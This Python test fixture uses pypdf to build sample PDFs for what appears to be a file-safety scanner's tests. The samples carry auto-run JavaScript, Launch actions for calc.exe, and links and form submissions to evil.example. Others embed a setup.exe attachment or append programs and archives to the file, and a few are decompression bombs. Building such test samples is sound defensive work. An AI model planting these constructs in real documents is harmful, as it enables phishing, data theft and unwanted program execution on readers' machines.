"""PDFs that run, send, fetch, hide or break something."""

import io
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    ByteStringObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from tests.evidence import files
from tests.evidence.corpus.names import PAGE, PROGRAM, ZIP
from tests.evidence.corpus.sample import Sample, samples

Value = object


def of(value: Value):
    """Python's as a PDF's: /names, texts, lists and dictionaries."""
    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): of(inner) for key, inner in value.items()})
    if isinstance(value, list):
        return ArrayObject(of(inner) for inner in value)
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    if isinstance(value, bytes):
        return ByteStringObject(value)
    return NumberObject(value)


def written(writer: PdfWriter) -> bytes:
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def root_with(**entries: Value) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    for name, value in entries.items():
        writer.root_object[NameObject(f"/{name}")] = of(value)
    return written(writer)


def page_with(**entries: Value) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    for name, value in entries.items():
        page[NameObject(f"/{name}")] = of(value)
    return written(writer)


def note(action: Value = None, **entries: Value) -> bytes:
    """A page with one annotation."""
    annotation = {"/Type": "/Annot", "/Subtype": "/Link", "/Rect": [0, 0, 9, 9]}
    annotation |= {f"/{name}": value for name, value in entries.items()}
    if action:
        annotation["/A"] = action
    return page_with(Annots=[annotation])


def stream_with(data: bytes = b"", **entries: Value) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    stream = StreamObject()
    stream.set_data(data)
    for name, value in entries.items():
        stream[NameObject(f"/{name}")] = of(value)
    writer.root_object[NameObject("/Extra")] = writer._add_object(stream)
    return written(writer)


def loose(value: Value) -> bytes:
    """An object that nothing points at, which another reader may find."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer._add_object(of(value))
    return written(writer)


def packed(inner: bytes) -> bytes:
    """The same objects, one of them inside a compressed stream of objects, as programs write them today."""
    body = b"5 0 " + inner
    data = zlib.compress(body)
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        4: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
        % (len(data), data),
    }
    whole, places = b"%PDF-1.7\n", {}
    for number, text in objects.items():
        places[number] = len(whole)
        whole += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    rows = b"\0\0\0\0\xff" + b"".join(b"\1" + places[n].to_bytes(3, "big") + b"\0" for n in objects)
    rows += b"\2" + (4).to_bytes(3, "big") + b"\0" + b"\1" + len(whole).to_bytes(3, "big") + b"\0"
    start = len(whole)
    table = b"<</Type/XRef/W[1 3 1]/Size 7/Root 1 0 R/Length %d>>stream\n%s\nendstream" % (len(rows), rows)
    return whole + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)


def locked(algorithm: str, password: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt(password, algorithm=algorithm)
    return written(writer)


def with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("setup.exe", PROGRAM)
    return written(writer)


SCRIPT = {"/S": "/JavaScript", "/JS": "app.alert(1)"}
ELSEWHERE = {"/S": "/URI", "/URI": "https://evil.example/"}
OTHER_FILE = {"/S": "/GoToR", "/F": "\\\\evil.example\\a.pdf"}
PROGRAM_START = {"/S": "/Launch", "/F": "calc.exe"}

RUNS = samples(
    "PDF that runs",
    [
        ("script.pdf", root_with(OpenAction=SCRIPT)),
        ("program.pdf", root_with(OpenAction=PROGRAM_START)),
        ("page.pdf", root_with(OpenAction=ELSEWHERE)),
        ("other file.pdf", root_with(OpenAction=OTHER_FILE)),
        ("then.pdf", root_with(OpenAction={"/S": "/GoTo", "/D": [0], "/Next": {"/S": "/Named", "/N": "/NextPage", "/Next": ELSEWHERE}})),
        ("names.pdf", root_with(Names={"/JavaScript": {"/Names": ["a", SCRIPT]}})),
        ("empty names.pdf", root_with(Names={"/JavaScript": {}})),
        ("closing.pdf", root_with(AA={"/WC": SCRIPT})),
        ("page opens.pdf", page_with(AA={"/O": SCRIPT})),
        ("page sends.pdf", page_with(AA={"/O": ELSEWHERE})),
        ("link.pdf", note(SCRIPT)),
        ("link program.pdf", note(PROGRAM_START)),
        ("link scheme.pdf", note({"/S": "/URI", "/URI": "javascript:alert(1)"})),
        ("link scheme too.pdf", note({"/S": "/URI", "/URI": " JavaScript :alert(1)"})),
        ("link embedded.pdf", note({"/S": "/GoToE", "/T": {}})),
        ("sends a form.pdf", note({"/S": "/SubmitForm", "/F": "https://evil.example/"})),
        ("takes in.pdf", note({"/S": "/ImportData", "/F": "a.fdf"})),
        ("rendition.pdf", note({"/S": "/Rendition", "/JS": "x"})),
        ("field.pdf", note(Subtype="/Widget", AA={"/K": SCRIPT})),
        ("film.pdf", note(Subtype="/Movie")),
        ("sound.pdf", note(Subtype="/Sound")),
        ("flash.pdf", note(Subtype="/RichMedia")),
        ("space.pdf", note(Subtype="/3D")),
        ("screen.pdf", note(Subtype="/Screen")),
        ("form of old.pdf", root_with(AcroForm={"/Fields": [], "/XFA": b"<xdp/>"})),
        ("loose.pdf", loose(SCRIPT)),
        ("loose deep.pdf", loose({"/A": [[{"/B": SCRIPT}]]})),
        ("escaped.pdf", root_with(OpenAction=SCRIPT).replace(b"/JavaScript", b"/J#61vaScript")),
        ("packed.pdf", lambda: packed(b"<</S/JavaScript/JS(app.alert\\(1\\))>>")),
        ("packed program.pdf", lambda: packed(b"<</S/Launch/F(calc.exe)>>")),
        ("behind the end.pdf", files.pdf() + b"\n9 0 obj <</S /JavaScript /JS (x)>> endobj\n%%EOF\n"),
    ],
)  # fmt: skip # laid out to be read

HIDES = samples(
    "PDF that hides",
    [
        ("attachment.pdf", with_attachment),
        ("attached to a page.pdf", note(Subtype="/FileAttachment")),
        ("named.pdf", loose({"/Type": "/Filespec", "/EF": {"/F": 1}})),
        ("collection.pdf", root_with(Collection={"/View": "/T"})),
        ("file.pdf", lambda: stream_with(PROGRAM, Type="/EmbeddedFile")),
        ("from elsewhere.pdf", lambda: stream_with(b"", F="https://evil.example/a")),
        ("page behind.pdf", files.pdf() + PAGE),
        ("program behind.pdf", files.pdf() + PROGRAM),
        ("archive behind.pdf", files.pdf() + ZIP),
        ("archive around.pdf", lambda: files.zipped({"a.pdf": files.pdf()})),
        ("archive that ends as a PDF.pdf", lambda: files.pdf() + ZIP[:-2] + b"\x06\0%%EOF\n"),
        ("late.pdf", b"MZ" + bytes(500) + files.pdf()),
        ("page before.pdf", PAGE + files.pdf()),
    ],
)

BROKEN = samples(
    "PDF that is broken",
    [
        *((f"{algorithm}.pdf", lambda a=algorithm: locked(a, "secret")) for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256")),
        ("open to all.pdf", lambda: locked("AES-256", "")),
        ("unknown lock.pdf", lambda: locked("RC4-128", "x").replace(b"/Filter /Standard", b"/Filter /Unknown_")),
        ("cut.pdf", files.pdf()[:200]),
        ("head.pdf", b"%PDF-1.7\n"),
        ("rubbish.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20),
        ("no pages.pdf", files.pdf().replace(b"/Pages 1 0 R", b"/Sages 1 0 R").replace(b"/Pages 2 0 R", b"/Sages 2 0 R")),
        ("bomb.pdf", lambda: packed(b"<</A(" + b"x" * 90_000_000 + b")>>")),
        ("deep.pdf", lambda: packed(b"[" * 100_000)),
    ],
)  # fmt: skip # laid out to be read

SAMPLES: list[Sample] = [*RUNS, *HIDES, *BROKEN]
